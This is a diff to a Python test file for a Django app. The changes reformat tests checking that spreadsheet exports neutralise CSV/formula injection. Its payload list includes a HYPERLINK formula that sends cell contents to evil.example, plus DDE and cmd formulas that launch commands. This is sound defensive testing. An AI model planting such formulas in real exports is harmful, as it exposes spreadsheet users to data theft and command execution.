@@ -20,14 +20,14 @@ from .policy_factories import PolicyFactory
 # The usual payloads (OWASP's CSV injection list and friends).
 PAYLOADS = [
     "=1+1",
-    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")",
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
     "@SUM(1,1)",
     "\t=1+1",
     "\r=1+1",
-    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+    '=DDE("cmd";"/C calc";"!A0")',
 ]
 HARMLESS = ["王芳", "a=1", " =1", "13800138000", "上海市-浦东"]
 
@@ -46,7 +46,11 @@ def _sheet_xml(content: bytes) -> str:
 def test_the_rule_knows_the_triggers():
     assert all(is_formula_like(payload) for payload in PAYLOADS)
     assert not any(is_formula_like(text) for text in HARMLESS)
-    assert not is_formula_like(-5) and not is_formula_like(Decimal("-1.5")) and not is_formula_like(None)
+    assert (
+        not is_formula_like(-5)
+        and not is_formula_like(Decimal("-1.5"))
+        and not is_formula_like(None)
+    )
 
 
 def test_xlsx_writes_every_payload_as_text_and_keeps_it_exact():
@@ -87,7 +91,7 @@ def _download(response) -> bytes:
 
 @pytest.mark.django_db
 def test_the_client_and_policy_exports_hold_no_formula(as_user, owner):
-    holder = ClientFactory(owner=owner, name="=HYPERLINK(\"http://evil.example\",\"点我\")")
+    holder = ClientFactory(owner=owner, name='=HYPERLINK("http://evil.example","点我")')
     holder.address = "+1+1"
     holder.notes = "@SUM(1,1)"
     holder.save()
@@ -97,7 +101,9 @@ def test_the_client_and_policy_exports_hold_no_formula(as_user, owner):
         content = _download(http.get(reverse(f"imports:{name}")))
         assert "<f>" not in _sheet_xml(content)
         values = [
-            cell for row in openpyxl.load_workbook(io.BytesIO(content)).active.values for cell in row
+            cell
+            for row in openpyxl.load_workbook(io.BytesIO(content)).active.values
+            for cell in row
         ]
         assert holder.name in values and "+1+1" in values and "@SUM(1,1)" in values
     assert "=cmd|' /C calc'!A0" in values
@@ -113,7 +119,7 @@ def test_the_team_export_holds_no_formula(as_user, manager, owner, fmt):
     body = _download(response)
     if fmt == "csv":
         rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
-        assert ["'=1+1"] == [row[0] for row in rows if "=1+1" in row[0]]
+        assert [row[0] for row in rows if "=1+1" in row[0]] == ["'=1+1"]
     else:
         assert "<f>" not in _sheet_xml(body)
         names = [row[0] for row in openpyxl.load_workbook(io.BytesIO(body)).active.values]
